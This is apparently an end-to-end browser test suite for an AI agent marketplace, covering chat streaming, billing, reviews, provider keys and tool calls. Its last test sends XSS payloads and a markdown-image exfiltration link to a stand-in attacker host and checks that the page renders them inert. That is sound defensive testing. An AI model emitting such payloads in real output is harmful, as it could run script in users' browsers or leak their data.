import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFailed } from 'vitest';
import {
  AGORA_URL,
  RESULTS_DIR,
  WAIT,
  captureAccessTokens,
  captureRefreshCookies,
  captureSecret,
  confirmEmailFromOutbox,
  openGuardedPage,
} from './harness.ts';

// Runs against a real `agora serve`, which loads the demo agents. They answer with the
// offline model `agora/echo` ("[agora/echo · offline model] You said: <the last message>",
// word by word), so no provider is needed. The repo's test script starts one and sets AGORA_URL.

/** The host the exfiltration payloads point at. Nothing may ever ask it for anything. */
const ATTACKER_HOST = 'attacker.invalid';
/** A priced demo agent (0.05 credits a run), so every answer has a visible cost. */
const PRICED_AGENT = 'agora-demo/contract-reviewer';
const FREE_AGENT = 'agora-demo/sql-explainer';
const ECHO_PREFIX = '[agora/echo · offline model] You said:';

/** `count` distinct words, so a cut-off answer is easy to tell from a whole one. */
function words(label: string, count: number): string {
  return Array.from({ length: count }, (_, index) => `${label}${index + 1}`).join(' ');
}

describe('running agents in Chromium: try it, chat, billing, reviews, provider keys', () => {
  const suffix = `${Date.now().toString(36)}-${randomBytes(4).toString('hex')}`;
  const user = {
    email: `web-chat-${suffix}@example.com`,
    displayName: `Chat E2E ${suffix}`,
    password: `pw-${randomBytes(18).toString('base64url')}`,
  };
  const providerKey = `sk-e2e-${randomBytes(12).toString('hex')}WXYZ`;

  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let pageErrors: string[];
  let dialogs: string[];
  /** Every request for the attacker's host, and any other request leaving the Agora server. */
  let attackerRequests: string[];

  beforeAll(async () => {
    captureSecret(user.password);
    captureSecret(providerKey);
    // Anything but the Agora server is recorded (in attackerRequests) and refused.
    ({
      browser,
      context,
      page,
      pageErrors,
      dialogs,
      strayRequests: attackerRequests,
    } = await openGuardedPage({ viewport: { width: 1280, height: 900 } }));
    page.on('request', (request) => {
      if (new URL(request.url()).hostname === ATTACKER_HOST) attackerRequests.push(request.url());
    });
    captureAccessTokens(page);
  });

  afterAll(async () => {
    await captureRefreshCookies(context);
    await context?.close().catch(() => undefined);
    await browser?.close();
  });

  function screenshotOnFailure(name: string) {
    onTestFailed(async () => {
      const path = join(RESULTS_DIR, `${name}-failure.png`);
      await page?.screenshot({ path, fullPage: true }).catch(() => undefined);
      console.error(`Screenshot of the failure: ${path}`);
    });
  }

  async function openAgent(address: string) {
    await page.goto(`${AGORA_URL}/agents/${address}`, { waitUntil: 'domcontentloaded' });
    await page.getByTestId('agent-name').waitFor({ state: 'visible', ...WAIT });
  }

  /** Starts a chat from the agent page; answers the conversation id. */
  async function startChat(address: string): Promise<string> {
    await openAgent(address);
    await page.getByTestId('start-chat').click();
    await page.waitForURL(/\/chat\/[0-9a-f-]+$/, WAIT);
    await page.getByTestId('chat-view').waitFor({ state: 'visible', ...WAIT });
    return new URL(page.url()).pathname.split('/').at(-1) ?? '';
  }

  /** The stored messages of the open conversation (not the one streaming). */
  function storedAnswers() {
    return page.getByTestId('chat-messages').locator('[data-testid="chat-message"][data-role="assistant"]');
  }

  /** Sends `text` with Enter and waits until its answer is stored (the stream is over). */
  async function send(text: string) {
    const before = await storedAnswers().count();
    await page.getByTestId('chat-input').fill(text);
    await page.getByTestId('chat-input').press('Enter');
    await expect.poll(() => storedAnswers().count(), WAIT).toBe(before + 1);
    await page.getByTestId('streaming-answer').waitFor({ state: 'detached', ...WAIT });
  }

  it('signs up, confirms the email, and opens a demo agent that runs on the offline model', async () => {
    screenshotOnFailure('chat-signup');
    const response = await page.goto(`${AGORA_URL}/signup`, { waitUntil: 'domcontentloaded' });
    expect(response?.status()).toBe(200);
    await page.getByLabel('Email').fill(user.email);
    await page.getByLabel('Display name').fill(user.displayName);
    await page.getByLabel('Password', { exact: true }).fill(user.password);
    await page.getByRole('button', { name: 'Create account' }).click();
    await page.waitForURL(`${AGORA_URL}/account`, WAIT);
    // New accounts get their credits once their email is confirmed, shown in the header.
    await confirmEmailFromOutbox(page);
    await expect.poll(() => page.getByTestId('credits-chip').innerText(), WAIT).toMatch(/^5(\.0+)? credits$/);

    await openAgent(PRICED_AGENT);
    expect(await page.getByTestId('agent-name').innerText()).toBe('Contract Reviewer');
    await page.getByTestId('try-it').waitFor({ state: 'visible' });
  });

  it('runs it in the try-it panel: the answer streams in, with its model and cost', async () => {
    screenshotOnFailure('chat-try-it');
    await page.getByTestId('try-it-prompt').fill('Please check clause four of my lease');
    await page.getByTestId('try-it-run').click();
    const output = page.getByTestId('try-it-output');
    await expect.poll(() => output.innerText(), WAIT).toContain(`${ECHO_PREFIX} Please check clause four of my lease`);
    const meta = page.getByTestId('try-it-answer').getByTestId('answer-meta');
    await meta.waitFor({ state: 'visible', ...WAIT });
    expect(await meta.getByTestId('answer-model').innerText()).toBe('agora/echo');
    // The agent's price (0.05) plus what the model cost.
    expect(await meta.getByTestId('answer-cost').innerText()).toMatch(/^Cost 0\.05\d* credits$/);
    await page.screenshot({ path: join(RESULTS_DIR, 'chat-try-it.png'), fullPage: true });
  });

  it('chats: the answer appears token by token, then shows its model and cost', async () => {
    screenshotOnFailure('chat-stream');
    await startChat(PRICED_AGENT);
    // Record the length of the streaming answer every time the page changes it.
    await page.evaluate(() => {
      const target = window as unknown as { __streamLengths: number[] };
      target.__streamLengths = [];
      new MutationObserver(() => {
        const text = document.querySelector('[data-testid="streaming-answer"] [data-testid="answer-text"]')?.textContent;
        if (text) target.__streamLengths.push(text.length);
      }).observe(document.body, { subtree: true, childList: true, characterData: true });
    });
    const message = `Is this indemnity clause risky ${words('w', 30)}`;
    await send(message);

    const lengths = await page.evaluate(() => (window as unknown as { __streamLengths: number[] }).__streamLengths);
    const distinct = [...new Set(lengths)];
    expect(distinct.length, `the answer grew in steps (lengths seen: ${distinct.join(', ')})`).toBeGreaterThan(5);
    expect(distinct[0], 'the first piece shown is a small part of the answer').toBeLessThan(Math.max(...distinct) / 2);

    const answer = storedAnswers().last();
    expect(await answer.getByTestId('answer-text').innerText()).toContain(`${ECHO_PREFIX} ${message}`);
    await expect.poll(() => answer.getByTestId('answer-cost').innerText(), WAIT).toMatch(/^Cost 0\.05\d* credits$/);
    expect(await answer.getByTestId('answer-model').innerText()).toBe('agora/echo');
    // The first message names the conversation.
    await expect.poll(() => page.getByTestId('chat-title').innerText(), WAIT).toContain('Is this indemnity clause risky');
    await page.screenshot({ path: join(RESULTS_DIR, 'chat-stream.png'), fullPage: true });
  });

  it('stops a long answer half-way, then regenerates it whole', async () => {
    screenshotOnFailure('chat-stop');
    const long = words('x', 120);
    await page.getByTestId('chat-input').fill(long);
    await page.getByTestId('chat-input').press('Enter');
    const streaming = page.getByTestId('streaming-answer');
    await expect.poll(() => streaming.getByTestId('answer-text').innerText(), WAIT).toContain('x3 ');
    await page.getByTestId('stop-answer').click();
    await streaming.waitFor({ state: 'detached', ...WAIT });
    const stopped = storedAnswers().last();
    await expect.poll(() => stopped.getAttribute('data-status'), WAIT).toBe('stopped');
    expect(await stopped.getByTestId('answer-status').innerText()).toMatch(/stopped/i);
    expect(await stopped.getByTestId('answer-text').innerText()).not.toContain('x120');
    const count = await storedAnswers().count();

    await stopped.getByTestId('regenerate').click();
    await page.getByTestId('streaming-answer').waitFor({ state: 'visible', ...WAIT });
    await page.getByTestId('streaming-answer').waitFor({ state: 'detached', ...WAIT });
    const again = storedAnswers().last();
    await expect.poll(() => again.getByTestId('answer-text').innerText(), WAIT).toContain('x120');
    expect(await again.getAttribute('data-status')).toBe('complete');
    // The new answer replaced the stopped one.
    expect(await storedAnswers().count()).toBe(count);
    await page.screenshot({ path: join(RESULTS_DIR, 'chat-regenerate.png'), fullPage: true });
  });

  it('lists the conversations, the most recent first, and deletes one', async () => {
    screenshotOnFailure('chat-list');
    const first = new URL(page.url()).pathname.split('/').at(-1) ?? '';
    const second = await startChat(FREE_AGENT);
    await send('SELECT 1');
    const items = page.getByTestId('conversation-item');
    const ids = () => items.evaluateAll((all) => all.map((item) => item.getAttribute('data-conversation-id')));
    await expect.poll(async () => (await ids()).filter((id) => id === first || id === second).length, WAIT).toBe(2);
    expect(await items.first().getAttribute('data-conversation-id')).toBe(second);
    expect(await items.first().innerText()).toContain('SELECT 1');

    const doomed = page.locator(`[data-testid="conversation-item"][data-conversation-id="${second}"]`);
    await doomed.getByTestId('delete-conversation').click();
    await doomed.getByRole('button', { name: 'Delete', exact: true }).click();
    await doomed.waitFor({ state: 'detached', ...WAIT });
    await page.waitForURL(`${AGORA_URL}/chat`, WAIT);
    await page.getByTestId('chat-home').waitFor({ state: 'visible' });
  });

  it('shows the runs with their cost, the ledger, daily spend, and saves a spending limit', async () => {
    screenshotOnFailure('chat-billing');
    await page.getByTestId('credits-chip').click();
    await page.waitForURL(`${AGORA_URL}/account/billing`, WAIT);
    const runs = page.getByTestId('runs').locator(`[data-testid="run-row"][data-agent="${PRICED_AGENT}"]`);
    await expect.poll(() => runs.count(), WAIT).toBeGreaterThanOrEqual(3);
    const succeeded = runs.and(page.locator('[data-status="succeeded"]')).first();
    expect(await succeeded.getByTestId('run-cost').innerText()).toMatch(/^0\.05\d*$/);
    expect(await runs.and(page.locator('[data-status="stopped"]')).count()).toBeGreaterThanOrEqual(1);

    const charges = page.getByTestId('ledger').locator('[data-testid="ledger-row"][data-kind="run_charge"]');
    await expect.poll(() => charges.count(), WAIT).toBeGreaterThanOrEqual(3);
    expect(await charges.first().getByTestId('ledger-amount').innerText()).toMatch(/^-0\.\d+$/);
    expect(Number(await page.getByTestId('credits-available').innerText())).toBeLessThan(5);
    const bars = page.getByTestId('spend-chart').getByTestId('bar');
    expect(await bars.count()).toBe(30);
    expect(Number(await bars.last().getAttribute('data-value'))).toBeGreaterThan(0);

    const limits = page.getByTestId('limits-form');
    await limits.getByLabel(/Daily limit/).fill('2.5');
    await limits.getByRole('button', { name: 'Save limits' }).click();
    await limits.getByTestId('limits-saved').waitFor({ state: 'visible', ...WAIT });
    expect(await limits.getByLabel(/Daily limit/).inputValue()).toBe('2.5');
    await page.screenshot({ path: join(RESULTS_DIR, 'chat-billing.png'), fullPage: true });
  });

  it('leaves a review that appears on the agent page', async () => {
    screenshotOnFailure('chat-review');
    await openAgent(PRICED_AGENT);
    const form = page.getByTestId('review-form');
    await form.waitFor({ state: 'visible', ...WAIT });
    const text = `Caught the risky clause for me (${suffix}).`;
    await form.getByTitle('4 of 5').click();
    expect(await form.getByRole('radio', { name: '4 stars' }).isChecked()).toBe(true);
    await form.getByLabel('Your review').fill(text);
    await form.getByRole('button', { name: 'Post review' }).click();
    await form.getByTestId('review-saved').waitFor({ state: 'visible', ...WAIT });

    const mine = page.getByTestId('review-list').locator('[data-testid="review"][data-own="true"]');
    await expect.poll(() => mine.innerText(), WAIT).toContain(text);
    expect(await mine.getByRole('img').getAttribute('aria-label')).toBe('4 out of 5 stars');
    expect(await page.getByTestId('rating-count').innerText()).toMatch(/\d+ reviews?/);
    // After a reload too: it is stored.
    await page.reload({ waitUntil: 'domcontentloaded' });
    await expect.poll(() => page.getByTestId('review-list').innerText(), WAIT).toContain(text);
    await page.screenshot({ path: join(RESULTS_DIR, 'chat-review.png'), fullPage: true });
  });

  it('adds a provider key (a private endpoint is refused on its field), lists it by its last four, and deletes it', async () => {
    screenshotOnFailure('chat-provider-keys');
    await page.goto(`${AGORA_URL}/account`, { waitUntil: 'domcontentloaded' });
    await page.getByRole('navigation', { name: 'Account' }).getByRole('link', { name: 'Provider keys' }).click();
    await page.waitForURL(`${AGORA_URL}/account/provider-keys`, WAIT);
    const form = page.getByTestId('provider-key-form');

    await form.getByLabel('Name').fill('local-llm');
    await form.getByLabel('Provider').selectOption('openai_compatible');
    await form.getByLabel('Base URL').fill('http://127.0.0.1:8080/v1');
    await form.getByRole('button', { name: 'Add provider key' }).click();
    const urlError = form.getByTestId('field-error-base_url');
    await urlError.waitFor({ state: 'visible', ...WAIT });
    expect(await urlError.innerText()).toMatch(/public|private|loopback|address/i);
    expect(await form.getByLabel('Base URL').getAttribute('aria-invalid')).toBe('true');

    await form.getByLabel('Provider').selectOption('openai');
    await form.getByLabel('Name').fill('my-openai');
    await form.getByLabel('API key').fill(providerKey);
    await form.getByRole('button', { name: 'Add provider key' }).click();
    const row = page.locator('[data-testid="provider-key-row"][data-name="my-openai"]');
    await row.waitFor({ state: 'visible', ...WAIT });
    expect(await row.getByTestId('key-last-four').innerText()).toBe('…WXYZ');
    expect(await page.locator('body').innerText()).not.toContain(providerKey);
    expect(await form.getByLabel('API key').inputValue()).toBe('');

    await row.getByRole('button', { name: 'Delete my-openai' }).click();
    await row.getByRole('button', { name: 'Yes, delete' }).click();
    await row.waitFor({ state: 'detached', ...WAIT });
  });

  it("uses an agent's own tool: the call shows as a card with its result, then the answer from it", async () => {
    screenshotOnFailure('chat-tools');
    // The Web Reader demo agent has current_time; the offline model calls a tool the
    // message names and answers with what it returned.
    await startChat('agora-demo/web-reader');
    await send('Please call current_time');
    const answer = storedAnswers().last();
    const card = answer.getByTestId('tool-card');
    await card.waitFor({ state: 'visible', ...WAIT });
    expect(await card.getAttribute('data-tool')).toBe('current_time');
    expect(await card.getAttribute('data-status')).toBe('ok');
    expect(await card.getByTestId('tool-outcome').innerText()).toBe('OK');
    await card.locator('summary').click();
    const result = await card.getByTestId('tool-result').innerText();
    expect(result).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z/);
    expect(await answer.getByTestId('answer-text').innerText()).toContain(`The tools said: ${result.trim()}`);
    await page.screenshot({ path: join(RESULTS_DIR, 'chat-tools.png'), fullPage: true });
  });

  it('keeps hostile model output inert: no script, no dialog, no javascript: link, nothing loaded from the attacker', async () => {
    screenshotOnFailure('chat-xss');
    const payload = [
      'Summarise this:',
      '<img src=x onerror=alert(1)>',
      '<script>alert(2)</script>',
      '[click me](javascript:alert(3))',
      `![leak](http://${ATTACKER_HOST}/leak.png?secret=1)`,
    ].join('\n');

    /** What a hostile answer could have left in `root`. */
    const inspect = (root: ReturnType<Page['getByTestId']>) =>
      root.evaluate((element) => ({
        scripts: element.querySelectorAll('script').length,
        images: element.querySelectorAll('img, svg image, iframe, object, embed').length,
        handlers: Array.from(element.querySelectorAll('*')).flatMap((node) =>
          Array.from(node.attributes).filter((attribute) => attribute.name.startsWith('on')).map((a) => a.name),
        ),
        unsafeLinks: Array.from(element.querySelectorAll('a')).filter((a) => !/^(https?|mailto):/i.test(a.href)).length,
        clickMeIsLink: Array.from(element.querySelectorAll('a')).some((a) => a.textContent?.includes('click me')),
      }));

    // The try-it panel on the agent page...
    await openAgent(FREE_AGENT);
    await page.getByTestId('try-it-prompt').fill(payload);
    await page.getByTestId('try-it-run').click();
    const output = page.getByTestId('try-it-output');
    await page.getByTestId('try-it-answer').getByTestId('answer-meta').waitFor({ state: 'visible', ...WAIT });
    await expect.poll(() => output.innerText(), WAIT).toContain('click me');
    await output.getByText('click me').click();
    expect(await inspect(output)).toEqual({ scripts: 0, images: 0, handlers: [], unsafeLinks: 0, clickMeIsLink: false });
    expect(await output.getByTestId('inert-image').innerText()).toContain(`http://${ATTACKER_HOST}/leak.png?secret=1`);

    // ...and a conversation.
    await startChat(FREE_AGENT);
    await send(payload);
    const answer = storedAnswers().last();
    await expect.poll(() => answer.innerText(), WAIT).toContain('click me');
    const clickMe = answer.getByText('click me');
    expect(await clickMe.evaluate((element) => element.closest('a') === null)).toBe(true);
    await clickMe.click();
    await page.waitForTimeout(500);
    expect(await inspect(page.getByTestId('chat-messages'))).toEqual({
      scripts: 0,
      images: 0,
      handlers: [],
      unsafeLinks: 0,
      clickMeIsLink: false,
    });
    expect(await answer.getByTestId('inert-image').innerText()).toContain('[Image not loaded: leak]');
    // The user's own message is shown as the text it is.
    expect(await page.getByTestId('chat-messages').locator('[data-role="user"]').last().innerText()).toContain(
      '<img src=x onerror=alert(1)>',
    );

    const attackerImages = await page.evaluate(
      (host) => Array.from(document.querySelectorAll('img')).filter((image) => image.src.includes(host)).length,
      ATTACKER_HOST,
    );
    expect(attackerImages, `no <img> in the page points at ${ATTACKER_HOST}`).toBe(0);
    expect(dialogs, 'no script ran').toEqual([]);
    expect(attackerRequests, `nothing asked ${ATTACKER_HOST} (or any host but the server) for anything`).toEqual([]);
    expect(pageErrors, 'uncaught errors in the page').toEqual([]);
    await page.screenshot({ path: join(RESULTS_DIR, 'chat-xss.png'), fullPage: true });
  });
});
